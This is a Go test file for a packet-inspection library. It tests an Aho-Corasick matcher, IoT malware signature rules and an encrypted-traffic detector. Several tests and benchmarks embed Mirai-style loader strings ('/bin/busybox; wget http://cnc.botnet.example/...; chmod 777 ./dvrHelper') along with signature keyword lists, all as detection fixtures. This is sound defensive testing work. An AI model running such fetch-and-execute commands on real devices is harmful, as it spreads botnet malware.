package dpi

import (
	"bytes"
	"math/rand"
	"slices"
	"sort"
	"testing"
	"testing/quick"
)

func TestMatcherBasics(t *testing.T) {
	m := NewMatcher([][]byte{[]byte("he"), []byte("she"), []byte("his"), []byte("hers")})
	got := m.FindAll([]byte("ushers"))
	// Classic AC example: "ushers" contains she(4), he(4), hers(6).
	want := map[Match]bool{
		{Pattern: 1, End: 4}: true, // she
		{Pattern: 0, End: 4}: true, // he
		{Pattern: 3, End: 6}: true, // hers
	}
	if len(got) != len(want) {
		t.Fatalf("FindAll = %v, want 3 matches", got)
	}
	for _, g := range got {
		if !want[g] {
			t.Errorf("unexpected match %v", g)
		}
	}
}

func TestMatcherOverlapsAndRepeats(t *testing.T) {
	m := NewMatcher([][]byte{[]byte("aa")})
	got := m.FindAll([]byte("aaaa"))
	if len(got) != 3 {
		t.Errorf("overlapping matches = %d, want 3", len(got))
	}
}

func TestMatcherContains(t *testing.T) {
	m := NewMatcher([][]byte{[]byte("busybox")})
	if !m.Contains([]byte("run /bin/busybox now")) {
		t.Error("Contains missed pattern")
	}
	if m.Contains([]byte("nothing here")) {
		t.Error("Contains false positive")
	}
	if m.Contains(nil) {
		t.Error("Contains on empty input")
	}
}

func TestMatcherEmptyPatternsIgnored(t *testing.T) {
	m := NewMatcher([][]byte{{}, []byte("x")})
	if m.PatternCount() != 1 {
		t.Errorf("PatternCount = %d, want 1", m.PatternCount())
	}
}

// naiveFindAll is the matcher's specification: every occurrence of every
// non-empty pattern, ordered by end offset, then longest pattern first,
// then by pattern index.
func naiveFindAll(patterns [][]byte, text []byte) []Match {
	var pats [][]byte
	for _, p := range patterns {
		if len(p) > 0 {
			pats = append(pats, p)
		}
	}
	var out []Match
	for end := 1; end <= len(text); end++ {
		var at []Match
		for pi, p := range pats {
			if len(p) <= end && bytes.Equal(text[end-len(p):end], p) {
				at = append(at, Match{Pattern: pi, End: end})
			}
		}
		sort.SliceStable(at, func(i, j int) bool { return len(pats[at[i].Pattern]) > len(pats[at[j].Pattern]) })
		out = append(out, at...)
	}
	return out
}

// checkMatcher compares FindAll and Contains with naiveFindAll.
func checkMatcher(t *testing.T, patterns [][]byte, text []byte) {
	t.Helper()
	m := NewMatcher(patterns)
	got, want := m.FindAll(text), naiveFindAll(patterns, text)
	if !slices.Equal(got, want) {
		t.Fatalf("FindAll = %v, want %v (pats=%q text=%q)", got, want, patterns, text)
	}
	if c := m.Contains(text); c != (len(want) > 0) {
		t.Fatalf("Contains = %v, want %v (pats=%q text=%q)", c, len(want) > 0, patterns, text)
	}
}

// TestMatcherAgainstNaive is a property test: AC results equal naive
// search, in order, over random inputs and patterns.
func TestMatcherAgainstNaive(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	alphabet := []byte("abc")
	randBytes := func(n int) []byte {
		b := make([]byte, n)
		for i := range b {
			b[i] = alphabet[rng.Intn(len(alphabet))]
		}
		return b
	}
	for trial := 0; trial < 500; trial++ {
		var pats [][]byte
		for i := 0; i < 1+rng.Intn(8); i++ {
			pats = append(pats, randBytes(rng.Intn(5)))
		}
		checkMatcher(t, pats, randBytes(rng.Intn(60)))
	}
}

// FuzzAhoCorasick checks the automaton against naiveFindAll. The first
// argument holds the patterns, separated by zero bytes.
func FuzzAhoCorasick(f *testing.F) {
	f.Add([]byte("he\x00she\x00his\x00hers"), []byte("ushers"))
	f.Add([]byte("aa\x00a\x00aa"), []byte("aaaa"))
	var rules [][]byte
	for _, r := range IoTMalwareRules() {
		for _, k := range r.Keywords {
			rules = append(rules, k.Pattern)
		}
	}
	f.Add(bytes.Join(rules, []byte{0}), []byte("/bin/busybox; wget http://cnc.botnet.example/m; chmod 777 ./dvrHelper"))
	f.Fuzz(func(t *testing.T, pats, text []byte) {
		if len(pats) > 512 || len(text) > 512 {
			return
		}
		checkMatcher(t, bytes.Split(pats, []byte{0}), text)
	})
}

// BenchmarkMatcherFindAll scans a 1 KiB payload with the built-in rule
// corpus: benign bytes, and the same bytes with a Mirai loader inside.
func BenchmarkMatcherFindAll(b *testing.B) {
	var pats [][]byte
	for _, r := range IoTMalwareRules() {
		for _, k := range r.Keywords {
			pats = append(pats, k.Pattern)
		}
	}
	m := NewMatcher(pats)
	benign := bytes.Repeat([]byte("GET /api/v1/state?temp=21.5&hum=40 HTTP/1.1\r\n"), 1024/46+1)[:1024]
	loader := append([]byte(nil), benign...)
	copy(loader[300:], "/bin/busybox; wget http://cnc.botnet.example/mirai.arm; chmod 777 ./dvrHelper")
	for _, c := range []struct {
		name string
		data []byte
	}{{"benign", benign}, {"loader", loader}} {
		b.Run(c.name, func(b *testing.B) {
			b.SetBytes(int64(len(c.data)))
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				m.FindAll(c.data)
			}
		})
	}
}

func mustRules(t *testing.T) *RuleSet {
	t.Helper()
	rs, err := NewRuleSet(IoTMalwareRules())
	if err != nil {
		t.Fatal(err)
	}
	return rs
}

func TestRuleSetValidation(t *testing.T) {
	if _, err := NewRuleSet([]Rule{{ID: "", Keywords: []Keyword{{Pattern: []byte("abcd")}}}}); err == nil {
		t.Error("empty ID accepted")
	}
	if _, err := NewRuleSet([]Rule{{ID: "a", Keywords: nil}}); err == nil {
		t.Error("no keywords accepted")
	}
	if _, err := NewRuleSet([]Rule{{ID: "a", Keywords: []Keyword{{Pattern: []byte("ab")}}}}); err == nil {
		t.Error("short keyword accepted")
	}
	dup := []Rule{
		{ID: "a", Keywords: []Keyword{{Pattern: []byte("abcd"), Offset: -1}}},
		{ID: "a", Keywords: []Keyword{{Pattern: []byte("efgh"), Offset: -1}}},
	}
	if _, err := NewRuleSet(dup); err == nil {
		t.Error("duplicate rule ID accepted")
	}
}

func TestMatchPlainAllKeywordsRequired(t *testing.T) {
	rs := mustRules(t)
	// mirai-loader needs both "/bin/busybox" and "wget http://".
	half := []byte("telnet session: /bin/busybox MIRAI")
	if dets := rs.MatchPlain(half); len(dets) != 0 {
		t.Errorf("half signature fired: %v", dets)
	}
	full := []byte("/bin/busybox; wget http://203.0.113.5/mirai.arm; chmod 777 f")
	dets := rs.MatchPlain(full)
	found := map[string]bool{}
	for _, d := range dets {
		found[d.Rule.ID] = true
	}
	if !found["mirai-loader"] {
		t.Errorf("mirai-loader missed in %q; got %v", full, dets)
	}
}

func TestMatchPlainAnchoredOffset(t *testing.T) {
	rs := mustRules(t)
	// ota-unsigned anchors "FWIMG-UNSIGNED" at offset 0.
	if dets := rs.MatchPlain([]byte("FWIMG-UNSIGNED payload")); len(dets) != 1 {
		t.Errorf("anchored match failed: %v", dets)
	}
	if dets := rs.MatchPlain([]byte("xx FWIMG-UNSIGNED payload")); len(dets) != 0 {
		t.Errorf("mis-anchored match fired: %v", dets)
	}
}

func TestEncryptedDetectorMatchesPlain(t *testing.T) {
	rs := mustRules(t)
	tk, err := NewTokenizer([]byte("session-key"))
	if err != nil {
		t.Fatal(err)
	}
	det, err := NewEncryptedDetector(rs, tk)
	if err != nil {
		t.Fatal(err)
	}
	payloads := [][]byte{
		[]byte("/bin/busybox; wget http://cnc.botnet.example/a.sh"),
		[]byte("FWIMG-UNSIGNED xxxxxxxxxxxxxxxx"),
		[]byte("perfectly normal telemetry reading 23.5C"),
		[]byte("chmod 777 ./dvrHelper && ./dvrHelper"),
	}
	for _, p := range payloads {
		plain := rs.MatchPlain(p)
		enc := det.MatchTokens(tk.Tokenize(p))
		if len(plain) != len(enc) {
			t.Errorf("payload %q: plain=%d enc=%d detections", p, len(plain), len(enc))
			continue
		}
		pm := map[string]bool{}
		for _, d := range plain {
			pm[d.Rule.ID] = true
		}
		for _, d := range enc {
			if !pm[d.Rule.ID] {
				t.Errorf("payload %q: encrypted-only detection %s", p, d.Rule.ID)
			}
		}
	}
}

// TestEncryptedPlainEquivalence is the core property: for random payloads
// (with signatures sometimes embedded), encrypted matching equals
// plaintext matching.
func TestEncryptedPlainEquivalence(t *testing.T) {
	rs := mustRules(t)
	tk, _ := NewTokenizer([]byte("k2"))
	det, _ := NewEncryptedDetector(rs, tk)
	rng := rand.New(rand.NewSource(5))
	sigs := []string{"/bin/busybox", "wget http://", "cnc.botnet.example", "chmod 777", "./dvrHelper", "ssn=", "dob="}
	for trial := 0; trial < 300; trial++ {
		var payload []byte
		for i := 0; i < 1+rng.Intn(6); i++ {
			if rng.Intn(2) == 0 {
				payload = append(payload, sigs[rng.Intn(len(sigs))]...)
			}
			filler := make([]byte, rng.Intn(12))
			for j := range filler {
				filler[j] = byte('a' + rng.Intn(26))
			}
			payload = append(payload, filler...)
		}
		plain := rs.MatchPlain(payload)
		enc := det.MatchTokens(tk.Tokenize(payload))
		pm := map[string]bool{}
		for _, d := range plain {
			pm[d.Rule.ID] = true
		}
		em := map[string]bool{}
		for _, d := range enc {
			em[d.Rule.ID] = true
		}
		if len(pm) != len(em) {
			t.Fatalf("trial %d payload %q: plain %v != enc %v", trial, payload, pm, em)
		}
		for id := range pm {
			if !em[id] {
				t.Fatalf("trial %d payload %q: plain-only %s", trial, payload, id)
			}
		}
	}
}

func TestTokenizerKeySeparation(t *testing.T) {
	a, _ := NewTokenizer([]byte("key-a"))
	b, _ := NewTokenizer([]byte("key-b"))
	p := []byte("same payload bytes")
	ta := a.Tokenize(p)
	tb := b.Tokenize(p)
	same := 0
	for i := range ta {
		if ta[i] == tb[i] {
			same++
		}
	}
	if same != 0 {
		t.Errorf("%d/%d tokens collide across keys", same, len(ta))
	}
	if _, err := NewTokenizer(nil); err == nil {
		t.Error("empty key accepted")
	}
}

func TestTokenizeShortPayload(t *testing.T) {
	tk, _ := NewTokenizer([]byte("k"))
	if got := tk.Tokenize([]byte("abc")); got != nil {
		t.Errorf("short payload produced tokens: %v", got)
	}
	if got := tk.Tokenize([]byte("abcd")); len(got) != 1 {
		t.Errorf("4-byte payload tokens = %d, want 1", len(got))
	}
}

func TestEncryptedDetectorRequiresRules(t *testing.T) {
	empty, err := NewRuleSet(nil)
	if err != nil {
		t.Fatal(err)
	}
	tk, _ := NewTokenizer([]byte("k"))
	if _, err := NewEncryptedDetector(empty, tk); err == nil {
		t.Error("empty rule set accepted")
	}
}

func TestFindSeqProperty(t *testing.T) {
	f := func(hay []uint64, start uint8) bool {
		if len(hay) == 0 {
			return true
		}
		s := int(start) % len(hay)
		needle := hay[s:]
		if len(needle) == 0 {
			return true
		}
		pos := findSeq(hay, needle, -1)
		// Found position must actually match.
		if pos < 0 || pos > s {
			return false
		}
		for j, v := range needle {
			if hay[pos+j] != v {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

// BenchmarkBlindBoxMatch runs the two BlindBox stages on a 1 KiB payload
// with a Mirai loader inside, under the built-in rules: the endpoint's
// Tokenize, and the middlebox's MatchTokens over the tokens.
func BenchmarkBlindBoxMatch(b *testing.B) {
	rs, err := NewRuleSet(IoTMalwareRules())
	if err != nil {
		b.Fatal(err)
	}
	tk, err := NewTokenizer([]byte("bench-session-key"))
	if err != nil {
		b.Fatal(err)
	}
	det, err := NewEncryptedDetector(rs, tk)
	if err != nil {
		b.Fatal(err)
	}
	payload := bytes.Repeat([]byte("GET /api/v1/state?temp=21.5&hum=40 HTTP/1.1\r\n"), 1024/46+1)[:1024]
	copy(payload[300:], "/bin/busybox wget http://203.0.113.9/bot ")
	tokens := tk.Tokenize(payload)
	if len(det.MatchTokens(tokens)) == 0 {
		b.Fatal("the planted loader is not detected")
	}
	b.Run("tokenize", func(b *testing.B) {
		b.SetBytes(int64(len(payload)))
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			tk.Tokenize(payload)
		}
	})
	b.Run("match", func(b *testing.B) {
		b.SetBytes(int64(len(payload)))
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			det.MatchTokens(tokens)
		}
	})
}
